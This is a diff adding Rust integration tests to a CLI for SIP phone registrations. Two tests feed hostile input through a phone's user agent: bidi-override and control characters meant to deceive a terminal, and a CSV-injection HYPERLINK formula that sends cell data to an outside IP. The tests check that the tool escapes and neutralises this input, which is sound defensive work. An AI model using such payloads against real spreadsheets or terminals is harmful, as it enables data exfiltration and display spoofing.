@@ -2,9 +2,12 @@
 
 use std::io::{Read, Write};
 use std::process::{Child, Command, Stdio};
+use std::time::Duration;
 
-use super::{ID, Lab, ends, lab};
-use crate::support::tools;
+use super::{ACME, ID, Lab, ends, lab};
+use crate::support::phone::Phone;
+use crate::support::table::Table;
+use crate::support::{eventually, holds, tools};
 
 /// Who has drawn so much has not drawn what is waited for.
 const MUCH: usize = 200_000;
@@ -105,6 +108,19 @@ fn a_flush_asks_first() {
 }
 
 #[test]
+fn a_flush_that_takes_long_shows_how_far_it_is() {
+    let lab = lab();
+    // Nothing is removed while somebody writes to the database.
+    let lock = Table::at(lab.kamailio.database()).lock();
+    let mut terminal = Terminal::start(&lab, &format!("flush {ID} --yes"), 60, "");
+    terminal.shows("\r\x1b[Kflushing: 0 of 2");
+    drop(lock);
+    let (status, text) = terminal.ends();
+    assert_eq!(status, Some(0), "{text}");
+    assert!(text.contains("\r\x1b[Kflushed 2 registrations"), "{text:?}");
+}
+
+#[test]
 fn watching_redraws_and_gives_the_terminal_back() {
     let mut lab = lab();
     for verb in [
@@ -150,4 +166,63 @@ fn watching_needs_a_terminal_and_a_table() {
     let (status, text) = run(&lab, "list --watch --interval 5", 60, "", "");
     assert_eq!(status, Some(64), "{text}");
     lab.prints(&["count"]);
+}
+
+/// What phones send neither steers a terminal nor hides on it, whatever verb and format show it; a file gets it as it is.
+#[test]
+fn what_phones_send_is_harmless() {
+    let lab = lab();
+    let agent = "evil\u{202e}moc\u{2066}\u{200b}\u{feff}\u{9b}31m\u{e0041}";
+    let mut phone = Phone::new(&lab.kamailio, "mallory", ACME).user_agent(agent);
+    phone.register();
+    eventually("the phone is listed", Duration::from_secs(20), || {
+        let text = lab.prints(&["list", "-o", "ndjson"]);
+        holds(text.contains(agent), || text)
+    });
+    let unseen = |c: char| matches!(c, '\u{80}'..='\u{9f}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e0fff}');
+    for verb in [
+        "list --columns user_agent",
+        "list -o wide",
+        "list -o json",
+        "list -o ndjson",
+        "list -o csv",
+        "show mallory",
+        "show mallory -o json",
+    ] {
+        let (status, text) = run(&lab, verb, 400, "1", "");
+        assert_eq!(status, Some(0), "{text}");
+        let escape = if verb.contains("json") {
+            "\\u202e"
+        } else {
+            "\\u{202e}"
+        };
+        assert!(text.contains(escape), "{verb}: {text}");
+        assert!(!text.contains(unseen), "{verb}: {text:?}");
+    }
+    let mut terminal = Terminal::start(&lab, "watch --initial", 400, "1");
+    terminal.shows("\\u{202e}");
+    terminal.types("\x03");
+    assert!(!terminal.ends().1.contains(unseen));
+    assert!(lab.prints(&["list", "-o", "csv"]).contains(agent));
+}
+
+/// A text that a spreadsheet would calculate is a text.
+#[test]
+fn csv_is_neutral() {
+    let lab = lab();
+    let agent = "=HYPERLINK(\"http://192.0.2.9/?x=\"&A2,\"click\")";
+    Phone::new(&lab.kamailio, "mallory", ACME)
+        .user_agent(agent)
+        .call_id("@SUM(1+1)")
+        .register();
+    let cell = format!("'{}", agent.replace('"', "\"\""));
+    eventually("the phone is in the CSV", Duration::from_secs(20), || {
+        let text = lab.prints(&["list", "-o", "csv"]);
+        holds(
+            text.contains(&format!("\"{cell}\"")) && text.contains(",'@SUM(1+1),"),
+            || text,
+        )
+    });
+    let api = lab.daemon.get("/v2/registrations?accept=csv").text();
+    assert!(api.contains(&cell) && !api.contains(",@SUM"), "{api}");
 }
